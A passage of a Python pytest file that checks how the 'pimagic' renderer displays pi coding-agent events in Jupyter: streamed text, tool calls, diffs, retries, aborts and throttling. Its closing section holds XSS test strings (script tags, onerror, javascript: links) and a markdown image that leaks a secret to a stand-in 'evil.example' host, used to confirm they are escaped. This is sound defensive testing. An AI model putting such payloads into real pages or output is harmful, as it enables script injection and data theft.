"""pimagic.turn + pimagic.render: pi RPC event dicts -> a turn, its live view and its PiResult.

Event shapes are copied from pi's docs/json.md and docs/message-types.md (pi-coding-agent 1.5.2).
The live view is checked through :class:`Screen`, which applies each emitted slot operation the way
a Jupyter front end applies display_data / update_display_data to a cell's output area.
"""

from __future__ import annotations

import random
import re

import pytest

from pimagic.render import SEGMENT_CHARS, TurnRenderer, seal_point
from pimagic.sanitize import clean
from pimagic.turn import PiResult, ToolRun

# --------------------------------------------------------------------------- fixtures / builders


class Clock:
    def __init__(self) -> None:
        self.t = 100.0

    def __call__(self) -> float:
        return self.t


class Screen:
    """A cell's output area: ``new`` appends an output, otherwise the slot's content is replaced."""

    def __init__(self, clock: Clock) -> None:
        self.clock = clock
        self.slots: list[dict] = []
        self.calls: list[tuple[float, int, dict, bool]] = []
        self.screens: list[str] = []  # the visible plain text after each operation

    def __call__(self, slot: int, bundle: dict, new: bool) -> None:
        assert set(bundle) in ({"text/plain", "text/html"}, {"text/plain"})
        if new:
            assert slot == len(self.slots)
            self.slots.append(bundle)
        else:
            assert 0 <= slot < len(self.slots)
            self.slots[slot] = bundle
        self.calls.append((self.clock.t, slot, bundle, new))
        self.screens.append(self.plain)

    @property
    def plain(self) -> str:
        return "\n\n".join(b["text/plain"] for b in self.slots if b["text/plain"])

    @property
    def html(self) -> str:
        return "".join(b.get("text/html", "") for b in self.slots)

    @property
    def flushes(self) -> int:
        return len({t for t, *_ in self.calls})


@pytest.fixture
def clock():
    return Clock()


@pytest.fixture
def sink(clock):
    return Screen(clock)


@pytest.fixture
def renderer(sink, clock):
    return TurnRenderer(sink, throttle=0.1, clock=clock)


USAGE = {
    "input": 1200,
    "output": 345,
    "cacheRead": 0,
    "cacheWrite": 0,
    "totalTokens": 1545,
    "cost": {"input": 0.01, "output": 0.02, "cacheRead": 0, "cacheWrite": 0, "total": 0.03},
}


def assistant(content, stop="stop", usage=USAGE, **extra):
    return {
        "role": "assistant",
        "content": content,
        "api": "anthropic-messages",
        "provider": "anthropic",
        "model": "claude-sonnet-4-5",
        "usage": usage,
        "stopReason": stop,
        "timestamp": 1733234401000,
        **extra,
    }


def start_assistant():
    return {"type": "message_start", "message": assistant([], stop="pending")}


def update(kind, index=0, **fields):
    return {
        "type": "message_update",
        "usage": {"input": 100, "output": 1, "cacheRead": 0, "cacheWrite": 0, "totalTokens": 101},
        "assistantMessageEvent": {"type": kind, "contentIndex": index, **fields},
    }


def text_message(text, *, deltas=None, stop="stop", **extra):
    """message_start, streamed text deltas, message_end."""
    deltas = deltas or [text[i : i + 7] for i in range(0, len(text), 7)]
    events = [start_assistant(), update("text_start")]
    events += [update("text_delta", delta=d) for d in deltas]
    events += [update("text_end", content=text)]
    events.append({"type": "message_end", "message": assistant([{"type": "text", "text": text}], stop, **extra)})
    return events


def tool_message(call_id, name, args, text=""):
    """An assistant message that asks for one tool call (text first, then the call)."""
    content = ([{"type": "text", "text": text}] if text else []) + [
        {"type": "toolCall", "id": call_id, "name": name, "arguments": args}
    ]
    idx = len(content) - 1
    return [
        start_assistant(),
        *([update("text_delta", 0, delta=text)] if text else []),
        update("toolcall_start", idx, id=call_id, toolName=name),
        update("toolcall_delta", idx, delta='{"'),
        update("toolcall_end", idx, toolCall=content[-1]),
        {"type": "message_end", "message": assistant(content, "toolUse")},
    ]


def tool_run(call_id, name, args, result, *, is_error=False, partials=()):
    events = [{"type": "tool_execution_start", "toolCallId": call_id, "toolName": name, "args": args}]
    for p in partials:
        events.append(
            {
                "type": "tool_execution_update",
                "toolCallId": call_id,
                "toolName": name,
                "args": args,
                "partialResult": {"content": [{"type": "text", "text": p}], "details": {}},
            }
        )
    events.append(
        {
            "type": "tool_execution_end",
            "toolCallId": call_id,
            "toolName": name,
            "result": {"content": [{"type": "text", "text": result}], "details": {}},
            "isError": is_error,
            "durationMs": 1500,
        }
    )
    return events


BEGIN = [{"type": "agent_start"}, {"type": "turn_start"}]
END = [{"type": "agent_end", "messages": [], "willRetry": False}, {"type": "agent_settled", "aborted": False}]


def feed_all(r, events, clock=None, step=0.0):
    for e in events:
        if clock is not None:
            clock.t += step
        r.feed(e)


def visible_html_text(html_doc: str) -> str:
    return re.sub(r"<[^>]+>", "", html_doc)


# --------------------------------------------------------------------------- text streaming


def test_text_deltas_stream_into_one_block(renderer, sink, clock):
    text = "Hello! The repo has **3** modules."
    feed_all(renderer, BEGIN + text_message(text) + END, clock, step=0.2)
    assert any("Hello!" in s and "The repo" not in s for s in sink.screens)
    assert "Hello! The repo has **3** modules." in sink.plain and sink.plain.count("Hello!") == 1
    result = renderer.finish([], 2.0)
    assert result.text == text == str(result)
    assert result.model == "anthropic/claude-sonnet-4-5"
    assert result.usage["input"] == 1200 and result.usage["output"] == 345
    assert result.error is None and not result.aborted and result.ok
    final = result._repr_mimebundle_()
    assert final["text/plain"].count("Hello!") == 1  # text_end/message_end replace, not append
    assert "The repo has **3** modules." in final["text/markdown"]
    assert "anthropic/claude-sonnet-4-5" in final["text/html"]
    assert "1.2k in / 345 out" in final["text/plain"]


def test_message_end_is_authoritative(renderer):
    events = [start_assistant(), update("text_delta", delta="Helo wrld")]
    events.append({"type": "message_end", "message": assistant([{"type": "text", "text": "Hello world"}])})
    feed_all(renderer, events)
    b = renderer.bundle()
    assert "Hello world" in b["text/plain"] and "Helo" not in b["text/plain"]


def test_result_text_is_the_last_assistant_message(renderer):
    feed_all(
        renderer,
        BEGIN
        + tool_message("c1", "bash", {"command": "ls"}, text="Let me look.")
        + tool_run("c1", "bash", {"command": "ls"}, "a.py\n")
        + text_message("There is one file: a.py.")
        + END,
    )
    result = renderer.finish()
    assert result.text == "There is one file: a.py."
    plain = renderer.bundle()["text/plain"]
    assert plain.index("Let me look.") < plain.index("[bash]") < plain.index("There is one file")


def test_usage_is_summed_over_model_calls(renderer):
    feed_all(renderer, text_message("one") + text_message("two"))
    usage = renderer.finish().usage
    assert usage["input"] == 2400 and usage["output"] == 690 and usage["cost"] == pytest.approx(0.06)


def test_thinking_is_collapsed(renderer):
    events = [
        start_assistant(),
        update("thinking_start"),
        update("thinking_delta", delta="secret plan"),
        update("thinking_end", content="secret plan"),
        update("text_delta", 1, delta="Done."),
        {
            "type": "message_end",
            "message": assistant([{"type": "thinking", "thinking": "secret plan"}, {"type": "text", "text": "Done."}]),
        },
    ]
    feed_all(renderer, events)
    assert renderer.finish().text == "Done."
    bundle = renderer.bundle()
    assert re.search(r"<details[^>]*><summary[^>]*>Thinking</summary>.*secret plan.*</details>", bundle["text/html"])
    assert "<details><summary>Thinking</summary>" in bundle["text/markdown"]
    assert "secret plan" not in bundle["text/plain"] and "[thinking: 11 chars]" in bundle["text/plain"]


# --------------------------------------------------------------------------- tools


def test_bash_tool_streams_then_finishes(renderer, sink, clock):
    args = {"command": "pytest -q"}
    feed_all(renderer, BEGIN + tool_message("call_1", "bash", args), clock, step=0.2)
    start, *updates, end = tool_run("call_1", "bash", args, "3 passed\n", partials=["collecting", "3 passed"])
    clock.t += 1
    renderer.feed(start)
    assert "pytest -q" in sink.html and "running…" in sink.plain
    clock.t += 1
    renderer.feed(updates[0])
    assert "collecting" in sink.plain
    clock.t += 1
    renderer.feed(updates[1])
    clock.t += 1
    renderer.feed(end)
    assert "collecting" not in sink.plain  # partial results are snapshots
    assert "$ pytest -q" in sink.plain and "3 passed" in sink.plain and "1.5s" in sink.plain
    done = renderer.finish()._repr_mimebundle_()
    assert "collecting" not in done["text/plain"]
    assert "$ pytest -q" in done["text/plain"] and "3 passed" in done["text/plain"]
    assert "```bash\npytest -q\n```" in done["text/markdown"]
    assert "1.5s" in done["text/plain"]
    (call,) = renderer.finish().tool_calls
    assert call == ToolRun(
        name="bash", args=args, result="3 passed\n", is_error=False, id="call_1", done=True, duration_ms=1500
    )


def test_tool_call_from_stream_and_execution_is_one_block(renderer):
    feed_all(renderer, tool_message("c1", "read", {"path": "a.py"}) + tool_run("c1", "read", {"path": "a.py"}, "x"))
    assert len(renderer.tool_calls) == 1
    assert renderer.bundle()["text/plain"].count("[read]") == 1


def test_failed_bash_is_marked(renderer):
    feed_all(
        renderer,
        tool_run("c1", "bash", {"command": "false"}, "\n\nCommand exited with code 1", is_error=True),
    )
    b = renderer.bundle()
    assert "failed" in b["text/plain"] and "Command exited with code 1" in b["text/plain"]
    assert "border-left:3px solid #d33" in b["text/html"]
    assert renderer.finish().tool_calls[0].is_error


def test_long_output_is_truncated_but_reachable(renderer):
    output = "\n".join(f"line {i}" for i in range(100))
    feed_all(renderer, tool_run("c1", "bash", {"command": "seq 100"}, output))
    b = renderer.bundle()
    html_doc = b["text/html"]
    # preview: the tail (shell output); the whole output inside <details>
    preview, details = html_doc.split("<details>", 1)
    assert "line 99" in preview and "line 0\n" not in preview
    assert "80 more lines (show all 100)" in details and "line 0\n" in details and "line 99" in details
    assert "<details><summary>80 more lines (show all 100)</summary>" in b["text/markdown"]
    assert "… 80 earlier lines" in b["text/plain"] and "line 0\n" not in b["text/plain"]


def test_result_lines_is_configurable(sink, clock):
    r = TurnRenderer(sink, clock=clock, result_lines=3)
    feed_all(r, tool_run("c1", "grep", {"pattern": "x"}, "a\nb\nc\nd\ne"))
    assert "… 2 more lines" in r.bundle()["text/plain"]


def test_write_shows_path_and_line_count(renderer):
    args = {"path": "src/app.py", "content": "import os\n\nprint(os.getcwd())\n"}
    feed_all(renderer, tool_run("w1", "write", args, "Successfully wrote 36 bytes to src/app.py"))
    b = renderer.bundle()
    assert "[write] src/app.py (3 lines)" in b["text/plain"]
    assert "src/app.py (3 lines)" in b["text/html"]
    assert "print(os.getcwd())" in b["text/html"].split("<details>", 1)[1]  # content folded
    assert "**write** src\\/app\\.py \\(3 lines\\)" in b["text/markdown"]


def test_edit_renders_a_unified_diff(renderer):
    args = {
        "path": "calc.py",
        "edits": [{"oldText": "def add(a, b):\n    return a - b\n", "newText": "def add(a, b):\n    return a + b\n"}],
    }
    feed_all(
        renderer,
        tool_message("e1", "edit", args) + tool_run("e1", "edit", args, "Successfully replaced 1 block(s) in calc.py."),
    )
    b = renderer.bundle()
    for doc in (b["text/plain"], b["text/markdown"]):
        assert "--- a/calc.py" in doc and "+++ b/calc.py" in doc
        assert "-    return a - b" in doc and "+    return a + b" in doc
    assert "```diff\n--- a/calc.py" in b["text/markdown"]
    assert '<span style="color:#1a7f37;background:rgba(46,160,67,0.12)">+    return a + b</span>' in b["text/html"]


def test_edit_shows_the_real_line_numbers_from_pis_patch(renderer):
    """pi's edit tool returns details.patch (a unified diff with the file's line numbers): an edit
    at line 13 is shown at line 13, not as `@@ -1 +1,2 @@`."""
    args = {"path": "calc.py", "edits": [{"oldText": "line 13\n", "newText": "line 13\nadded\n"}]}
    end = tool_run("e1", "edit", args, "Successfully replaced 1 block(s) in calc.py.")
    patch = "--- calc.py\n+++ calc.py\n@@ -10,8 +10,9 @@\n line 12\n line 13\n+added\n line 14\n"
    end[-1]["result"]["details"] = {"diff": " 13 line 13\n+14 added", "patch": patch, "firstChangedLine": 14}
    feed_all(renderer, end)
    plain = renderer.bundle()["text/plain"]
    assert "@@ -10,8 +10,9 @@" in plain and "+added" in plain and "@@ -1 " not in plain
    assert "--- a/calc.py" in plain


def test_edit_without_pis_patch_says_it_has_no_line_numbers(renderer):
    args = {"path": "calc.py", "edits": [{"oldText": "line 13\n", "newText": "line 13\nadded\n"}]}
    feed_all(renderer, tool_run("e1", "edit", args, "Could not find the text", is_error=True))
    plain = renderer.bundle()["text/plain"]
    assert "@@ line numbers not known @@" in plain and "@@ -1" not in plain and "+added" in plain


def test_pis_doubled_punctuation_is_tidied(renderer):
    feed_all(renderer, [start_assistant(), {"type": "message_end", "message": assistant(
        [], "error", errorMessage="Connection error.: connect ECONNREFUSED 172.17.0.1:18765")}])
    assert renderer.error == "Connection error: connect ECONNREFUSED 172.17.0.1:18765"
    assert "error.:" not in renderer.bundle()["text/plain"]


@pytest.mark.parametrize(
    "args",
    [
        {"path": "x.py", "oldText": "a = 1", "newText": "a = 2"},  # legacy top-level form
        {"path": "x.py", "edits": '[{"oldText": "a = 1", "newText": "a = 2"}]'},  # edits as a JSON string
        {"path": "x.py", "edits": {"oldText": "a = 1", "newText": "a = 2"}},  # a single edit object
    ],
)
def test_edit_accepts_the_argument_shapes_pi_accepts(renderer, args):
    feed_all(renderer, tool_run("e1", "edit", args, "ok"))
    plain = renderer.bundle()["text/plain"]
    assert "-a = 1" in plain and "+a = 2" in plain


def test_read_shows_path_and_folds_contents(renderer):
    feed_all(renderer, tool_run("r1", "read", {"path": "README.md", "offset": 10}, "# Title\nbody\n"))
    b = renderer.bundle()
    assert "[read] README.md (offset 10)" in b["text/plain"] and "# Title" not in b["text/plain"]
    assert "<details><summary" in b["text/html"] and "# Title" in b["text/html"].split("<details>", 1)[1]


def test_unknown_tool_shows_compact_args(renderer):
    feed_all(renderer, tool_run("u1", "web_fetch", {"url": "https://example.com", "n": 2}, "ok"))
    assert '[web_fetch] {"url": "https://example.com", "n": 2}' in renderer.bundle()["text/plain"]


# --------------------------------------------------------------------------- errors, retries, aborts


def test_error_message_end_is_a_red_block_with_pi_message(renderer, sink):
    events = [
        start_assistant(),
        {"type": "message_end", "message": assistant([], "error", errorMessage="401 invalid x-api-key")},
    ]
    feed_all(renderer, BEGIN + events + END)
    renderer.flush()
    assert "[error] 401 invalid x-api-key" in sink.plain  # live
    result = renderer.finish([], 1.0)
    assert result.error == "401 invalid x-api-key" and not result.ok
    final = result._repr_mimebundle_()
    html_doc = final["text/html"]
    assert re.search(r'<div style="[^"]*border:1px solid #d33[^"]*"><b[^>]*>Error</b>.*401 invalid x-api-key', html_doc)
    assert "[error] 401 invalid x-api-key" in final["text/plain"]
    assert "── error ·" in final["text/plain"]
    assert "**Error**\n\n```text\n401 invalid x-api-key\n```" in final["text/markdown"]


def test_successful_retry_clears_the_error(renderer):
    failing = [
        start_assistant(),
        {"type": "message_end", "message": assistant([], "error", errorMessage="529 overloaded")},
    ]
    events = (
        BEGIN
        + failing
        + [{"type": "agent_end", "messages": [], "willRetry": True}]
        + [
            {
                "type": "auto_retry_start",
                "attempt": 1,
                "maxAttempts": 3,
                "delayMs": 2000,
                "errorMessage": "529 overloaded",
            }
        ]
        + text_message("Recovered.")
        + [{"type": "auto_retry_end", "success": True, "attempt": 1}]
        + END
    )
    feed_all(renderer, events)
    result = renderer.finish()
    assert result.error is None and result.text == "Recovered."
    b = renderer.bundle()
    assert b["text/plain"].count("529 overloaded") == 1
    assert "(retrying 1/3 in 2s)" in b["text/plain"] and "((" not in b["text/plain"]
    assert "border:1px solid #d33" not in b["text/html"]  # shown as a warning, not a failure


def test_exhausted_retries_keep_one_error(renderer):
    def fail():
        return [
            start_assistant(),
            {"type": "message_end", "message": assistant([], "error", errorMessage="529 overloaded")},
        ]

    events = fail() + [
        {
            "type": "auto_retry_start",
            "attempt": 1,
            "maxAttempts": 1,
            "delayMs": 10,
            "errorMessage": "529 overloaded",
        }
    ]
    events += (
        fail() + [{"type": "auto_retry_end", "success": False, "attempt": 1, "finalError": "529 overloaded"}] + END
    )
    feed_all(renderer, events)
    result = renderer.finish()
    assert result.error == "529 overloaded"
    plain = renderer.bundle()["text/plain"]
    assert "[error (gave up after 1 attempts)] 529 overloaded" in plain
    assert plain.count("[error") == 2  # the retried attempt (as a warning) and the final failure


def test_aborted_turn(renderer):
    events = BEGIN + [
        start_assistant(),
        update("text_delta", delta="I'll now rewrite"),
        {
            "type": "message_end",
            "message": assistant(
                [{"type": "text", "text": "I'll now rewrite"}], "aborted", errorMessage="Request was aborted"
            ),
        },
        {"type": "agent_end", "messages": [], "willRetry": False},
        {"type": "agent_settled", "aborted": True},
    ]
    feed_all(renderer, events)
    result = renderer.finish()
    assert result.aborted and result.error == "Request was aborted" and not result.ok
    assert result.text == "I'll now rewrite"
    plain = renderer.bundle()["text/plain"]
    assert plain.count("Aborted") == 1 and "── aborted ·" in plain
    assert renderer.settled


def test_aborted_tool_call(renderer):
    events = [
        *tool_message("c1", "bash", {"command": "sleep 100"}),
        {
            "type": "tool_execution_start",
            "toolCallId": "c1",
            "toolName": "bash",
            "args": {"command": "sleep 100"},
        },
        {
            "type": "tool_execution_end",
            "toolCallId": "c1",
            "toolName": "bash",
            "result": {"content": [{"type": "text", "text": "Command aborted"}], "details": {}},
            "isError": True,
        },
        {"type": "agent_settled", "aborted": True},
    ]
    feed_all(renderer, events)
    result = renderer.finish()
    assert result.aborted and result.error == "aborted"
    assert result.tool_calls[0].is_error and result.tool_calls[0].result == "Command aborted"


def test_caller_errors_and_notices(renderer):
    feed_all(renderer, text_message("partial"))
    renderer.add_error("timed out after 30 s; turn aborted")
    renderer.add_notice("sandbox restarted")
    result = renderer.finish()
    assert result.error == "timed out after 30 s; turn aborted"
    plain = renderer.bundle()["text/plain"]
    assert "[error] timed out after 30 s" in plain and "[i] sandbox restarted" in plain


def test_compaction_and_length_notices(renderer):
    feed_all(
        renderer,
        [
            {"type": "compaction_start", "reason": "threshold"},
            {
                "type": "compaction_end",
                "reason": "threshold",
                "result": {"tokensBefore": 150000, "estimatedTokensAfter": 32000},
                "aborted": False,
                "willRetry": False,
            },
            *text_message("cut", stop="length"),
        ],
    )
    plain = renderer.bundle()["text/plain"]
    assert "Context compacted: 150.0k → 32.0k tokens" in plain and "Compacting" not in plain
    assert "output token limit" in plain


def test_unknown_and_malformed_events_are_ignored(renderer):
    for event in [
        {},
        {"type": "queue_update", "steering": [], "followUp": []},
        {"type": "message_update"},
        {"type": "message_update", "assistantMessageEvent": "nonsense"},
        {"type": "tool_execution_end"},
        {"type": "message_end", "message": None},
        {"type": "message_end", "message": {"role": "user", "content": "hi"}},
        "not a dict",
        None,
    ]:
        renderer.feed(event)  # type: ignore[arg-type]
    assert renderer.finish().text == ""


# --------------------------------------------------------------------------- throttling


def test_throttle_limits_updates_and_finish_ends_them(renderer, sink, clock):
    feed_all(renderer, [start_assistant()] + [update("text_delta", delta=f"w{i} ") for i in range(50)])
    assert sink.flushes == 1  # first event is shown at once, the rest are within 0.1 s
    clock.t += 0.05
    renderer.feed(update("text_delta", delta="more "))
    assert sink.flushes == 1
    clock.t += 0.05
    renderer.feed(update("text_delta", delta="last"))
    assert sink.flushes == 2 and "w49 more last" in sink.plain
    calls = len(sink.calls)
    renderer.finish([], 1.0)
    renderer.feed(update("text_delta", delta="late"))
    renderer.flush()
    assert len(sink.calls) == calls  # the result replaces the live view: nothing after finish


def test_flush_pushes_pending_update_from_an_idle_loop(renderer, sink, clock):
    renderer.feed(start_assistant())
    renderer.feed(update("text_delta", delta="a"))  # a new block: shown at once
    assert "a" in sink.plain
    clock.t += 0.01
    renderer.feed(update("text_delta", delta="bc"))  # right after: part of a burst, held
    assert "abc" not in sink.plain
    clock.t += 0.01
    renderer.flush()  # pi went quiet
    assert "abc" in sink.plain
    calls = len(sink.calls)
    renderer.flush()
    assert len(sink.calls) == calls  # nothing new
    clock.t += 0.1
    renderer.feed(update("text_delta", delta="d"))  # after a calm spell: at once
    assert "abcd" in sink.plain


def test_wait_is_measured_from_arrival():
    """A steady stream is shown delta by delta; a burst costs one update per throttle."""
    clock = Clock()
    screen = Screen(clock)
    r = TurnRenderer(screen, clock=clock, throttle=0.02)
    r.feed(start_assistant())
    for i in range(20):  # 25 ms apart: each on screen when it arrives
        clock.t += 0.025
        r.feed(update("text_delta", delta=f"s{i} "))
        assert f"s{i}" in screen.plain
    before = screen.flushes
    for i in range(100):  # a burst, 1 ms apart: shown every 20 ms of waiting
        clock.t += 0.001
        r.feed(update("text_delta", delta=f"b{i} "))
    assert screen.flushes - before == 4 and "b99" not in screen.plain
    assert "b79" in screen.plain  # nothing waited longer than the throttle
    r.flush()
    assert "b99" in screen.plain


def test_default_throttle_is_one_frame():
    clock = Clock()
    screen = Screen(clock)
    r = TurnRenderer(screen, clock=clock)
    r.feed(start_assistant())
    clock.t += 0.017
    r.feed(update("text_delta", delta="x"))
    assert screen.flushes == 2 and "x" in screen.plain


def test_live_footer_shows_elapsed_time_and_running(renderer, sink, clock):
    renderer.feed(start_assistant())
    clock.t += 4.25
    renderer.feed(update("text_delta", delta="x"))
    assert "── running · anthropic/claude-sonnet-4-5 · 100 in / 1 out · 4s" in sink.slots[-1]["text/plain"]


def test_live_footer_keeps_ticking_while_the_model_is_silent_and_names_the_model(sink, clock):
    r = TurnRenderer(sink, throttle=0.1, clock=clock, model="local/qwen")
    r.tick()  # the prompt was sent; nothing from pi yet
    assert sink.slots[-1]["text/plain"] == "── running · local/qwen · 0s"
    sent = len(sink.calls)
    for _ in range(50):  # 0.5 s of ticks: the footer text does not change, nothing is re-sent
        clock.t += 0.01
        r.tick()
    assert len(sink.calls) == sent
    clock.t += 5.7
    r.tick()
    assert sink.slots[-1]["text/plain"] == "── running · local/qwen · 6s" and len(sink.calls) == sent + 1
    r.feed(start_assistant())  # pi names the model that answers
    r.flush()
    assert "anthropic/claude-sonnet-4-5" in sink.slots[-1]["text/plain"]


def test_tick_after_finish_sends_nothing(renderer, sink):
    feed_all(renderer, text_message("done"))
    renderer.finish([], 1.0)
    sent = len(sink.calls)
    renderer.tick()
    assert len(sink.calls) == sent


def test_session_usage_line_for_status():
    from pimagic.render import session_usage

    stats = {"tokens": {"input": 50000, "output": 10000, "cacheRead": 40000, "cacheWrite": 5000, "total": 105000},
             "cost": 0.45, "contextUsage": {"tokens": 60000, "contextWindow": 200000, "percent": 30}}
    assert session_usage(stats) == (
        "tokens (this session): 50.0k in / 10.0k out (40.0k cached), $0.4500; context 30% of 200.0k"
    )
    assert session_usage({}) == "tokens (this session): 0 in / 0 out"
    assert session_usage({"tokens": "x", "contextUsage": {"percent": None}}) == "tokens (this session): 0 in / 0 out"


def test_changed_files_are_relative_links_in_html_only_for_plain_names(renderer):
    feed_all(renderer, text_message("done"))
    result = renderer.finish(["src/snake game.py", "snake.py", "javascript:alert(1)", "a\nb"], 1.0)
    html = result._repr_mimebundle_()["text/html"]
    assert '<a href="snake.py" style="color:inherit">snake.py</a>' in html
    assert '<a href="src/snake%20game.py" style="color:inherit">&#x27;src/snake game.py&#x27;</a>' in html
    assert 'href="javascript' not in html and "&#x27;javascript:alert(1)&#x27;" in html  # shown, not linked
    assert "&#x27;a\\nb&#x27;" in html and "href=\"a" not in html
    assert "<a" not in result._repr_mimebundle_()["text/markdown"]


def test_finish_footer_has_files_and_duration(renderer, sink):
    feed_all(renderer, text_message("done"))
    result = renderer.finish(["src/a.py", "tests/test_a.py"], 12.34)
    assert result.changed_files == ["src/a.py", "tests/test_a.py"] and result.duration == 12.34
    plain = result._repr_mimebundle_()["text/plain"]
    assert "12.3s · 2 files changed: src/a.py, tests/test_a.py" in plain
    assert "$0.0300" in plain


# --------------------------------------------------------------------------- the live view


def _stream(renderer, clock, text, sizes):
    """Stream ``text`` as text deltas of the given sizes, one frame apart; yield after each."""
    renderer.feed(start_assistant())
    i = 0
    for n in sizes:
        if i >= len(text):
            break
        clock.t += 0.02
        renderer.feed(update("text_delta", delta=text[i : i + n]))
        i += n
        yield text[:i]


def _squash(text: str) -> str:
    return "".join(text.split())


MIXED = (
    "Intro paragraph with `code` and **bold**.\n\n"
    "- item one\n- item two\n\n"
    "```python\n" + "".join(f"x{i} = {i}  # a line of code\n" for i in range(80)) + "```\n\n"
    + " ".join(f"word{i}" for i in range(400)) + "\n\n"
    "| a | b |\n|---|---|\n" + "".join(f"| {i} | {i * i} |\n" for i in range(120)) + "\n"
    "Last words."
)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_live_text_is_shown_once_in_order_at_every_step(sink, clock, seed):
    """However the deltas fall, the outputs on screen hold the text so far: nothing lost, nothing twice."""
    rnd = random.Random(seed)
    r = TurnRenderer(sink, throttle=0.0, clock=clock)
    for so_far in _stream(r, clock, MIXED, [rnd.randint(1, 40) for _ in range(10_000)]):
        text_slots = sink.slots[:-1]  # the last one is the footer
        shown = "".join(b["text/plain"] for b in text_slots)
        assert _squash(shown) == _squash(clean(so_far))
        assert sink.slots[-1]["text/plain"].startswith("── running")
    assert len(sink.slots) > 6  # paragraphs, the long code block and the long line were cut


def test_finished_pieces_are_sent_once_and_updates_stay_small(sink, clock):
    r = TurnRenderer(sink, throttle=0.0, clock=clock)
    list(_stream(r, clock, MIXED, [5] * 10_000))
    pieces = [(i, slot) for i, (_, slot, b, _) in enumerate(sink.calls) if not b["text/plain"].startswith("── ")]
    assert len({slot for _, slot in pieces}) > 6
    for slot in {slot for _, slot in pieces}:
        # a piece is updated while it grows; once the next one shows, it is never sent again
        later = [i for i, s in pieces if s > slot]
        sent = [i for i, s in pieces if s == slot]
        assert not later or max(sent) < min(later)
    biggest = max(sum(map(len, b.values())) for _, _, b, _ in sink.calls)
    assert biggest < 4 * SEGMENT_CHARS + 2000


def test_bytes_per_turn_grow_linearly(clock):
    def turn_bytes(n):
        screen = Screen(clock)
        r = TurnRenderer(screen, throttle=0.0, clock=clock)
        list(_stream(r, clock, "".join(f"p0t{i:03d} " for i in range(n)), [7] * n))
        return r.bytes_sent

    small, large = turn_bytes(400), turn_bytes(1600)
    assert large / small < 5  # 4x the deltas; re-sending the whole turn each time would be ~16x


def test_final_text_that_differs_from_the_deltas_replaces_them(sink, clock):
    r = TurnRenderer(sink, throttle=0.0, clock=clock)
    text = "".join(f"para {i} " * 30 + "\n\n" for i in range(8))
    list(_stream(r, clock, text, [9] * 10_000))
    r.feed({"type": "message_end", "message": assistant([{"type": "text", "text": "Short answer."}])})
    assert sink.plain.startswith("Short answer.") and "para 3" not in sink.plain


def test_running_tool_shows_a_preview_and_the_whole_output_when_done(sink, clock):
    r = TurnRenderer(sink, throttle=0.0, clock=clock)
    out = "\n".join(f"line {i}" for i in range(300))
    start, *updates, end = tool_run("c1", "bash", {"command": "seq 300"}, out, partials=[out])
    for e in (start, *updates):
        clock.t += 0.02
        r.feed(e)
    assert "line 299" in sink.html and "line 0\n" not in sink.html and "280 more lines so far" in sink.html
    clock.t += 0.02
    r.feed(end)
    assert "line 0\n" in sink.html.split("<details>", 1)[1]  # done: all of it, folded


def test_streaming_thinking_shows_its_length_then_its_text(sink, clock):
    r = TurnRenderer(sink, throttle=0.0, clock=clock)
    r.feed(start_assistant())
    r.feed(update("thinking_delta", delta="a secret plan"))
    assert "Thinking… (13 chars)" in sink.html and "secret" not in sink.html
    r.feed(update("text_delta", 1, delta="Done."))
    r.feed({"type": "message_end", "message": assistant([{"type": "thinking", "thinking": "a secret plan"},
                                                         {"type": "text", "text": "Done."}])})
    assert re.search(r"<details[^>]*><summary[^>]*>Thinking</summary>.*a secret plan", sink.html)


@pytest.mark.parametrize(
    "doc, floor, cut",
    [
        ("one\n\ntwo", 0, (5, "")),  # a paragraph is finished once the next one starts
        ("one\n\n", 0, None),  # ... not before
        ("- a\n\n  b", 0, None),  # an indented continuation belongs to the list item above
        ("```\nx\n\ny", 0, None),  # a blank line in code is no paragraph break
        ("```\nx\n```\n\nafter", 0, (11, "")),
        ("one\n\ntwo\n\nthree", 5, (10, "")),  # the last break after floor
        ("```py\n" + "x\n" * 600, 0, (1204, "```py")),  # long code: cut at a line, re-opened
        ("a " * 600, 0, (1200, "")),  # a long line: at a space
        ("x" * 1500, 0, (1024, "")),
    ],
)
def test_seal_point(doc, floor, cut):
    assert seal_point(doc, floor) == cut


# --------------------------------------------------------------------------- hostile content

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"


def _no_markup_from_agent(html_doc: str) -> None:
    assert "<script" not in html_doc and "<img" not in html_doc and "onerror=alert(2)>" not in html_doc
    # every tag in the document is one we emit
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)", html_doc))
    markdown_tags = {"p", "strong", "em", "ul", "ol", "li", "a", "blockquote", "hr", "br", "h1", "h2", "h3",
                     "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
    assert tags <= {"div", "pre", "code", "b", "span", "details", "summary"} | markdown_tags


def test_agent_markdown_renders_as_html_without_images_or_script_links(renderer):
    text = ("I wrote **snake.py**:\n\n- a `Game` class\n- [docs](https://example.org)\n\n"
            "![pixel](https://evil.example/?leak=secret) [x](javascript:alert(1)) <b>raw</b>")
    feed_all(renderer, text_message(text))
    html_doc = renderer.finish([], 1.0)._repr_mimebundle_()["text/html"]
    assert "<strong>snake.py</strong>" in html_doc and "<li>a <code>Game</code> class</li>" in html_doc
    assert '<a href="https://example.org">docs</a>' in html_doc
    assert "<img" not in html_doc and 'src="https://evil' not in html_doc  # images would load by themselves
    assert "javascript:" not in html_doc.split("[x](")[0] and 'href="javascript' not in html_doc
    assert "&lt;b&gt;raw&lt;/b&gt;" in html_doc  # raw HTML from the agent stays text


def test_hostile_content_is_escaped_everywhere(renderer, sink):
    events = [
        {"type": "message_start", "message": assistant([], "pending", provider=XSS, model=XSS)},
        update("text_delta", delta=f"text {XSS}"),
        update("thinking_delta", 1, delta=f"think {XSS}"),
        {
            "type": "message_end",
            "message": assistant([{"type": "text", "text": f"text {XSS}"}], "toolUse", provider="p<b>", model=XSS),
        },
        *tool_run("t1", XSS, {"path": XSS}, f"out {XSS}"),
        *tool_run("t2", "bash", {"command": f"echo '{XSS}'"}, f"out {XSS}", is_error=True),
        *tool_run("t3", "write", {"path": f"{XSS}.py", "content": XSS}, XSS),
        *tool_run("t4", "edit", {"path": XSS, "edits": [{"oldText": XSS, "newText": XSS + "!"}]}, XSS),
        *tool_run("t5", "read", {"path": XSS}, XSS),
        {"type": "extension_error", "extensionPath": XSS, "event": XSS, "error": XSS},
        {"type": "message_start", "message": assistant([], "pending")},
        {"type": "message_end", "message": assistant([], "error", errorMessage=f"err {XSS}")},
    ]
